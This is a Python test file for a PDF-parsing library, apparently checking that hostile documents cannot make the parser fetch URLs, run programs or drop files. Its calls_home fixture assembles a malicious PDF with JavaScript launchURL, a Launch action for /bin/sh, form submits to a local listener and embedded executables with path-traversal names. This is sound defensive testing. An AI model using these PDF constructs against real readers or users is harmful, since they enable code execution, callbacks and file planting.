"""What a hostile file must not bring about: things run, fetched, extracted, written elsewhere."""

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from reportlab.pdfgen.canvas import Canvas

from doctune.documents import ParseOptions, PdfError, parse_corpus
from doctune.documents.wire import Frames, encode, unpack_facts, unpack_part, unpack_status
from tests.documents.rawpdf import one_page, stream, write_raw

TEXT = b"BT /F1 12 Tf 72 700 Td (Hello there) Tj ET"
PAYLOAD = b"MZ this program is not to be run"
RUN = """
import sys
from pathlib import Path
from doctune.documents import ParseOptions, parse_corpus
out = Path(sys.argv[2])
options = ParseOptions(workers=2, max_failure_share=0.9)
parse_corpus(Path(sys.argv[1]), out, options, report_path=out / "report.html")
"""


@pytest.fixture
def server() -> Iterator[tuple[int, list[object]]]:
    """A port of this machine, and what has called at it."""
    callers: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def accept() -> None:
            while True:
                try:
                    connection, caller = listener.accept()
                except OSError:
                    return
                callers.append(caller)
                connection.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield listener.getsockname()[1], callers
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(30)


def calls_home(port: int) -> dict[int, bytes]:
    """A file that asks in every way it can for an address to be fetched and a program to be run."""
    address = b"http://127.0.0.1:%d/" % port
    outside = b"<< /FS /URL /F (%s) >>" % address
    objects = one_page(
        stream(b"/X0 Do " + TEXT),
        resources=b"/XObject << /X0 7 0 R >>",
        page=b"/Annots [8 0 R 9 0 R 10 0 R] /AA << /O << /S /URI /URI (%s) >> >>" % address,
    )
    objects[1] = (
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] /XFA 11 0 R >> "
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\)) /Next "
        b"<< /S /Launch /F (/bin/sh) /Next << /S /ImportData /F %s >> >> >> "
        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (../../a.exe) "
        b"/EF << /F 6 0 R >> >>] >> >> >>" % (address, outside)
    )
    objects[6] = stream(PAYLOAD, b"/Type /EmbeddedFile")
    objects[7] = stream(
        b"",
        b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray /F %s" % outside,
    )
    objects[8] = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F %s /D [0 /Fit] >> >>"
        % outside
    )
    objects[9] = (
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [9 9 18 18] /FS << /F (../b.exe) "
        b"/EF << /F 6 0 R >> >> >>"
    )
    objects[10] = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [20 20 90 40] /AA "
        b"<< /F << /S /SubmitForm /F %s >> >> >>" % outside
    )
    objects[11] = stream(b"<xdp><submit target='%s'/></xdp>" % address)
    return objects


def scan_of_words(path: Path) -> None:
    """A page without text whose strokes look like some, so that OCR is asked."""
    canvas = Canvas(str(path))
    for column in range(18):
        x = 72 + 6 * column
        canvas.lines([(x, 700, x, 707), (x + 4, 700, x + 4, 707), (x, 703, x + 4, 703)])
    canvas.save()


def everything_under(folder: Path) -> dict[str, tuple[int, int]]:
    """Each file's size and time of its last change."""
    found = {}
    for root, folders, names in os.walk(folder):
        for name in (*names, *folders):
            path = Path(root) / name
            status = path.lstat()
            found[str(path)] = status.st_size if path.is_file() else 0, status.st_mtime_ns
    return found


def test_nothing_is_fetched_run_extracted_or_written_outside_the_output(
    tmp_path: Path, server: tuple[int, list[object]]
) -> None:
    port, callers = server
    folders = {name: tmp_path / name for name in ("pdfs", "home", "temporary", "here", "out")}
    for path in folders.values():
        path.mkdir()
    write_raw(folders["pdfs"] / "calls.pdf", calls_home(port))
    write_raw(folders["pdfs"] / "half.pdf", one_page(stream(TEXT)))
    (folders["pdfs"] / "broken.pdf").write_bytes(b"%PDF-1.7\n/OpenAction")
    scan_of_words(folders["pdfs"] / "scan.pdf")
    before = everything_under(tmp_path)
    subprocess.run(
        [sys.executable, "-c", RUN, str(folders["pdfs"]), str(folders["out"])],
        cwd=folders["here"],
        env={
            "PATH": os.environ["PATH"],
            "PYTHONPATH": os.pathsep.join(filter(None, sys.path)),
            "PYTHONDONTWRITEBYTECODE": "1",
            "HOME": str(folders["home"]),
            "TMPDIR": str(folders["temporary"]),
        },
        check=True,
        timeout=300,
    )
    after = everything_under(tmp_path)
    changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    out = folders["out"]
    assert changed == {str(out)} | {
        str(out / name) for name in ("blocks.parquet", "documents.parquet", "report.html")
    }
    assert not callers
    written = b"".join(path.read_bytes() for path in out.iterdir())
    assert PAYLOAD not in written
    assert b"Hello there" in (out / "report.html").read_bytes()


def test_a_worker_can_write_no_file(tmp_path: Path) -> None:
    program = (
        "import sys, pathlib\n"
        "from doctune.documents import worker\n"
        "worker._limit_resources(512)\n"
        "pathlib.Path(sys.argv[1]).write_bytes(b'x')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(tmp_path / "x")], capture_output=True, timeout=300
    )
    assert done.returncode != 0
    assert not (tmp_path / "x").read_bytes()


def test_a_worker_sees_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCTUNE_TEST_TOKEN", "sesame")
    script = tmp_path / "sitecustomize.py"
    script.write_text(
        f"import os, pathlib\npathlib.Path({str(tmp_path / 'seen')!r}).write_text(str(os.environ))"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    write_raw(tmp_path / "pdfs.pdf", one_page(stream(TEXT)))
    parse_corpus([tmp_path / "pdfs.pdf"], tmp_path / "out", ParseOptions(workers=1))
    seen = (tmp_path / "seen").read_text()
    assert "PATH" in seen
    assert "sesame" not in seen


@pytest.mark.parametrize(
    "answer",
    [
        b"\xff" * 20,
        len(b"not JSON").to_bytes(8, "big") + b"not JSON",
        len(b"[1]").to_bytes(8, "big") + b"[1]",
        encode({"pages": "x" * 2000}),
    ],
    ids=["no length", "no JSON", "no object", "over the limit"],
)
def test_bytes_that_are_no_answer_are_refused(answer: bytes) -> None:
    with pytest.raises(ValueError, match=r".*"):
        Frames(most_bytes=1000).feed(answer)


def test_answers_come_whole_however_they_are_cut() -> None:
    sent = [{"alive": True}, {"pages": ["ä" * 30]}]
    frames = Frames(most_bytes=1000)
    stream_of_bytes = b"".join(map(encode, sent))
    got = [m for byte in stream_of_bytes for m in frames.feed(bytes([byte]))]
    assert got == sent


@pytest.mark.parametrize("unpack", [unpack_part, lambda a: unpack_facts(a["facts"]), unpack_status])
@pytest.mark.parametrize(
    "answer",
    [
        {"error": {"reason": 1}},
        {"error": ["x"], "pages": None, "facts": []},
        {"error": 5, "pages": [[1, 2]], "facts": {"page_count": "many"}},
    ],
)
def test_answers_that_hold_something_else_are_refused(unpack: object, answer: object) -> None:
    with pytest.raises((KeyError, TypeError, ValueError, PdfError)):
        unpack(answer)  # type: ignore[operator]
